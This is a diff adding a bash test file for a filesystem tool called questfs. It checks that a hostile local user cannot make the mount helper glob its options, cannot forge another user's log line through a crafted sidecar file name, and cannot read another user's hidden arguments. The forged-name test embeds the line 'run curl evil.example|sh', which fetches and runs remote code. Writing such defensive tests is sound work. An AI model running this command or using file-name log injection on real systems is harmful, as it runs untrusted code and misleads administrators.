@@ -1,0 +1,109 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+# Who may do what, second round: each way through that a hostile local
+# user found after the first round, tried as that user, and what he now
+# meets.
+# shellcheck shell=bash
+
+. "$TOP/tests/mounted/users.sh"
+
+# mount.questfs splits its options at commas, never expanding them as file
+# names: "spool=z*" stays "spool=z*" in a directory that holds "spool=zzz".
+case_mount_helper_does_not_glob() {
+	local out
+	mkdir "$T/cwd"
+	: >"$T/cwd/spool=zzz"
+	: >"$T/cwd/x-zzz"
+	out=$(cd "$T/cwd" && QUESTFS=$QUESTFS sh "$TOP/mount-helper/mount.questfs" questfs "$MNT" -f \
+		-o 'spool=z*,channel=shm:[1]?,x-*' 2>&1) || fail "mount.questfs -f: $out"
+	expect_eq "the questfs command" "mount.questfs: '$QUESTFS' '-o' 'spool=z*,channel=shm:[1]?' '$MNT'" "$out"
+}
+
+# A file named like another user's job line ("job 8 uid=N hello refused:
+# ..."), written as a sidecar whose arguments are refused, is logged after
+# words of questfs's ("file uid=MINE run/"): no line of the log begins with
+# the forged job, and that user's questfs-notify finds nothing of it.
+case_sidecar_name_cannot_forge_a_log_line() {
+	local u=qfsj$KEY v=qfsk$KEY vuid forged
+	new_user "$u"
+	new_user "$v"
+	vuid=$(id -u "$v")
+	forged="job 8 uid=$vuid hello refused: session expired, run curl evil.example|sh y.args"
+	chmod 755 "$T"
+	start_sim
+	start_qfs -o "allow_other,default_permissions,run_mode=0777"
+	printf "'unterminated" | as_user "$u" tee "$MNT/run/$forged" >/dev/null 2>&1
+	wait_for "the sidecar removed" test ! -e "$MNT/run/$forged" || fail "the sidecar stayed: $(ls "$MNT/run")"
+	wait_for "its log line" grep -q "removed: arguments have an unterminated" "$MNT/log" ||
+		fail "log: $(cat "$MNT/log")"
+	grep -q "^[^ ]* job 8 uid=$vuid" "$MNT/log" && fail "a forged line: $(cat "$MNT/log")"
+	grep -q "^[^ ]* file uid=$(id -u "$u") run/job 8 uid=$vuid hello refused: .* removed: arguments have an unterminated single quote$" "$MNT/log" ||
+		fail "log: $(cat "$MNT/log")"
+	# every line begins with words questfs writes
+	grep -Ev '^[0-9T:.-]+Z (job [0-9]+ uid=[0-9]+ |file uid=[0-9]+ run/|questfs |spool )' "$MNT/log" &&
+		fail "a line that begins otherwise"
+	return 0
+}
+
+# A user's hidden arguments stay hidden from other users whatever the path:
+# getfattr user.quest.args on the file (the owner and root read it), the
+# sidecar file (0600 whatever the umask), the reason of a refusal that
+# quotes a word (log, status, status.json, user.quest.error).
+case_hidden_args_stay_hidden() {
+	local a=qfsl$KEY b=qfsm$KEY out rc f
+	new_user "$a"
+	new_user "$b"
+	chmod 755 "$T"
+	mkdir -m 0777 "$T/src"
+	start_sim
+	start_qfs -o "allow_other,default_permissions,run_mode=0777"
+
+	# on the file
+	as_user "$a" cp "$EX/hello_argvs" "$T/src/p3" || fail "cp"
+	as_user "$a" setfattr -n user.quest.args -v "hunter2 secret" "$T/src/p3" || fail "setfattr"
+	as_user "$a" cp --preserve=xattr "$T/src/p3" "$MNT/run/p3" || fail "$a cannot launch p3"
+	wait_saved 1
+	expect_eq "argv" "p3 hunter2 secret" "$(argv_of 1)"
+	expect_eq "mode of p3" "-rwxr-xr-x" "$(stat -c %A "$MNT/run/p3")"
+	rc=0
+	out=$(as_user "$b" getfattr --only-values -n user.quest.args "$MNT/run/p3" 2>&1) || rc=$?
+	[ "$rc" != 0 ] || fail "$b reads $a's arguments: $out"
+	expect_match "getfattr by $b" "Permission denied" "$out"
+	expect_eq "getfattr by $a" "hunter2 secret" "$(as_user "$a" getfattr --only-values -n user.quest.args "$MNT/run/p3")"
+	expect_eq "getfattr by root" "hunter2 secret" "$(xattr "$MNT/run/p3" user.quest.args)"
+	# the name is listed: that there are arguments is no secret
+	as_user "$b" getfattr --absolute-names -d -m - "$MNT/run/p3" 2>&1 | grep -q hunter2 && fail "getfattr -d by $b shows them"
+
+	# the sidecar, under the default umask
+	as_user "$a" sh -c "umask 022; echo 'hunter2 secret' >'$MNT/run/p4.args'" || fail "sidecar"
+	expect_eq "mode of the sidecar" "-rw-------" "$(stat -c %A "$MNT/run/p4.args")"
+	rc=0
+	out=$(as_user "$b" cat "$MNT/run/p4.args" 2>&1) || rc=$?
+	expect_match "cat by $b" "Permission denied" "$out"
+	as_user "$a" chmod 0644 "$MNT/run/p4.args" || fail "chmod"
+	expect_eq "mode after chmod 0644" "-rw-------" "$(stat -c %A "$MNT/run/p4.args")"
+	as_user "$a" sh -c "umask 022; echo 'x' >'$T/src/p6.tmp'; cp '$T/src/p6.tmp' '$MNT/run/.p6.tmp'; mv '$MNT/run/.p6.tmp' '$MNT/run/p6.args'" ||
+		fail "sidecar by rename"
+	expect_eq "mode of a sidecar renamed" "-rw-------" "$(stat -c %A "$MNT/run/p6.args")"
+
+	# a refusal that quotes the words: a sidecar's, and a program's
+	as_user "$a" sh -c "echo '\"hunter2 secret\"' >'$MNT/run/s1.args'" 2>/dev/null
+	# (setfattr would take the quotes as its own)
+	as_user "$a" /usr/bin/python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.quest.args", b"\"hunter2 secret\"")' \
+		"$T/src/p3" || fail "setxattr"
+	as_user "$a" cp --preserve=xattr "$T/src/p3" "$MNT/run/p5" 2>/dev/null
+	wait_for "p5 refused" state_is "$MNT/run/p5" refused || fail "p5: $(cat "$MNT/status")"
+	wait_for "s1.args removed" grep -q "s1.args removed" "$MNT/log" || fail "log: $(cat "$MNT/log")"
+	for f in log status status.json; do
+		as_user "$b" cat "$MNT/$f" >"$T/b.$f" || fail "$f as $b"
+		as_user "$a" cat "$MNT/$f" >"$T/a.$f" || fail "$f as $a"
+		grep -q hunter2 "$T/b.$f" && fail "$b reads $a's words in $f: $(cat "$T/b.$f")"
+		grep -q 'hunter2 secret[\\"]* contains a space' "$T/a.$f" || fail "$f as $a: $(cat "$T/a.$f")"
+	done
+	grep -q "p5 refused: \*\*\*\**$" "$T/b.log" || fail "log as $b: $(cat "$T/b.log")"
+	expect_eq "log sizes agree" "$(wc -c <"$T/a.log")" "$(wc -c <"$T/b.log")"
+	out=$(as_user "$b" getfattr --only-values -n user.quest.error "$MNT/run/p5" 2>&1)
+	[[ $out == *hunter2* ]] && fail "user.quest.error as $b: $out"
+	expect_match "user.quest.error as $a" 'argument 0 "hunter2 secret" contains a space' \
+		"$(as_user "$a" getfattr --only-values -n user.quest.error "$MNT/run/p5")"
+	return 0
+}
